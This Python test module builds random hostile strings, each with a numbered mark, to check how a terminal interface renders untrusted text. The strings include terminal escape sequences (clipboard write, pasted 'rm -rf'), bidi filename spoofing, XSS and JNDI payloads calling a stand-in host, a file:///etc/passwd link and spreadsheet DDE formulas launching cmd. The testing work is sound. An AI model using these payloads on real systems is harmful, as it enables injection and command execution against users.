"""Texts made to attack whatever shows them, by chance, as many as are asked for, each with a mark.

A mark is harmless and found again in what is put out, so that it can be told which text a surface
has shown. Before it stands an attack, for some work only where a text begins; after it others.
"""

# ruff: noqa: RUF001 - letters that are taken for others are among the attacks
from __future__ import annotations

import re
from typing import TYPE_CHECKING, NamedTuple

from tests.tui.hostile import ATTACKS

if TYPE_CHECKING:
    from collections.abc import Sequence
    from random import Random

MARK = re.compile(r"ond(\d{5})x")

_TERMINAL = (
    *ATTACKS,
    *(chr(number) for number in (*range(32), *range(127, 160))),
    "\x1b]52;c;ZWNobyBvbmQ=\x1b\\",
    "\x1b]1337;File=inline=1:AAAA\x07",
    "\x1bPtmux;\x1b\x1b]0;TITEL\x07\x1b\\",
    "\x1b[?2004h\x1b[200~rm -rf\r\x1b[201~",
    "\x1b[38;2;0;0;0m\x1b[8mosynlig",
    "\x1b(0lqqk\x1b#8\x1bc",
    "\x1b[3J\x1b[1;1r\x1b[?7l\x1b[5m",
    "\x1b_Gf=100,a=T;AAAA\x1b\\",
    "\x1b^pm\x1b\\\x1bXsos\x1b\\",
    "\x9d52;c;AAAA\x9c\x9b?1049h\x84\x85",
    "\x0e\x0fåäö\x08\x08\x08xxx\r\x1b[K",
    "\x1b[",
    "\x1b]0;",
)
_LETTERS = (
    *map(chr, (*range(0x200B, 0x2010), *range(0x202A, 0x202F), *range(0x2060, 0x2070))),
    *("\u061c", "\ufeff", "\u00ad", "\u034f", "\u180e", "\u115f", "\u3164", "\uffa0", "\u2800"),
    *("\U000e0001\U000e0062\U000e007f", "\ufff9a\ufffab\ufffb", "\ufffe", "\uffff", "\U0001fffe"),
    *("\u2028", "\u2029", "\u0085", "\u00a0", "\u3000", "\u1680"),
    *("a" + "\u0301" * 300, "\u0489" * 40, "e\u0e49\u0e49\u0e49\u0e49\u0e49", "\u0f73\u0f73"),
    *("\ud800", "\udfff", "\udc80\udcff", "\ud83d", "\ude00\ud83d"),
    *("اَلْعَرَبِيَّةُ", "עִבְרִית", "日本語", "👩‍👩‍👧‍👦", "🏳️‍🌈🇸🇪", "ﬀ", "İıſK", "Ǆ", "ß", "ΐ", "ŉ", "①²½"),
    *("\u202e\u2066fdp.exe\u2069\u202c", "\u2067\u2067\u2067", "\u200f\u200e\u200f"),
    *("À¯", "Ã¥Ã¤Ã¶", "\x80\x81\x8d\x8f\x90\x9d", "&#x202e;", "%00%1b", "\\u001b[31m", "\\x1b[0m"),
)
_MARKUP = (
    *(
        "<script>alert(1)</script>",
        "</script><script src=//ond.example></script>",
        "<svg/onload=a>",
    ),
    *(
        '"><img src=x onerror=alert(1)>',
        "' onmouseover='a",
        "javascript:alert(1)",
        "</style><style>",
    ),
    *("<a href='javascript:a'>", "<iframe srcdoc='x'>", "<base href=//ond.example>", "<!--", "-->"),
    *("<![CDATA[", "]]>", "<?xml version='1.0'?>", "<!DOCTYPE x [<!ENTITY y 'z'>]>", "&y;", "&#0;"),
    *(
        "&lt;script&gt;",
        "&amp;lt;",
        "&#60;b&#62;",
        "&#27;[31m",
        "<b>",
        "</td></tr></table>",
        "</title>",
    ),
    *("<meta http-equiv=refresh content='0;//ond.example'>", "<math><mi//xlink:href='data:x'>"),
    *("<use href='data:image/svg+xml,x'/>", "<foreignObject><b/></foreignObject>", "</text></svg>"),
    *("{{ 7 * 7 }}", "{% raw %}", "{{ config }}", "{0.__class__}", "%(x)s%n", "${jndi:ldap://ond}"),
    *("[bold red]", "[/]", "[/x]", "[@click=app.quit]x[/]", "[link=file:///etc/passwd]x[/link]"),
    *("\\[", "[on red]", "[", "]", "[[", "[$error]x", "[reverse]", ":smile:", "[not a tag]"),
    *("[länk](http://ond.example)", "![bild](http://ond.example/x.png)", "<http://ond.example>"),
    *("http://ond.example", "www.ond.example", "[ref]: http://ond.example", "[a][b]", "[x]: <y>"),
    *(
        "# rubrik",
        "- punkt",
        "1. lista",
        "> citat",
        "```\nkod\n```",
        "~~~",
        "---",
        "===",
        "\\",
        "`x`",
    ),
    *(
        "| a | b |\n|---|---|",
        "*x*",
        "__x__",
        "~~x~~",
        "$$x$$",
        "<br>",
        "&emsp;",
        "a\\\nb",
        "\t\tkod",
    ),
    *(
        "<details><summary>",
        "[^1]: fot",
        "+ x",
        "1) x",
        "<!-- x",
        "@ond",
        "#1",
        "&nbsp;",
        "\n\n# h",
    ),
    *("w:fldSimple", "<w:instrText>", "</w:t></w:r>", "_x001B_", "_x005F_", "_x0000_", "&_P&A&D"),
)
_FORMULAS = (
    *('=HYPERLINK("http://ond.example","x")', "=1+1", "+1+1", "-1+1", "@SUM(A1:A9)", "=A1"),
    *("=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", '=DDE("cmd";"/C calc";"x")', "-2+3+cmd|'x'!A"),
    *("\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\u00a0=1+1", "\u3000=1+1", "\ufeff=1+1"),
    *("＝1+1", "＋1+1", "－1+1", "＠SUM(A1)", "﹦1", "﬩1", "⁼1", "'=1+1", '"=1+1"', '"";=1+1;""'),
    *('=WEBSERVICE("http://ond.example")', "=IMPORTXML(1;2)", "{=1+1}", "=[x.xls]A!A1"),
    *("x;=1+1", 'x"\n=1+1', "x\r\n=1+1", "x,=1+1", "x\t=1+1", "1E+400", "#REF!", "1/2", "00123"),
)  # fmt: skip
_LONG = (
    *("lång " * 200, "W" * 2_000, "\u0301" * 500, "日" * 500, "[" * 300, "<" * 300, "&" * 300),
    *("((((" * 100, "\\" * 300, "|" * 300, '"' * 300, "9" * 400, "a/" * 300, "\n" * 100, " " * 300),
)
KINDS: tuple[Sequence[str], ...] = (_TERMINAL, _LETTERS, _MARKUP, _FORMULAS)


class Attack(NamedTuple):
    """A text, and the number of its mark."""

    number: int
    text: str


def attacks(count: int, random: Random) -> list[Attack]:
    """Return so many different texts; as soon as there is room for all, each attack begins one."""
    first = [each for kind in KINDS for each in kind]
    random.shuffle(first)
    made = []
    for number in range(count):
        begin = first[number % len(first)] if number < len(first) else _several(random)
        made.append(Attack(number, f"{begin}ond{number:05}x{_several(random)}"))
    return made


def _several(random: Random) -> str:
    chosen = [random.choice(random.choice(KINDS)) for _ in range(random.randint(1, 3))]
    if random.random() < 0.05:
        chosen.append(random.choice(_LONG))
    return "".join(chosen)


def seen(text: str) -> set[int]:
    """Return the numbers of the marks in a text."""
    return {int(number) for number in MARK.findall(text)}
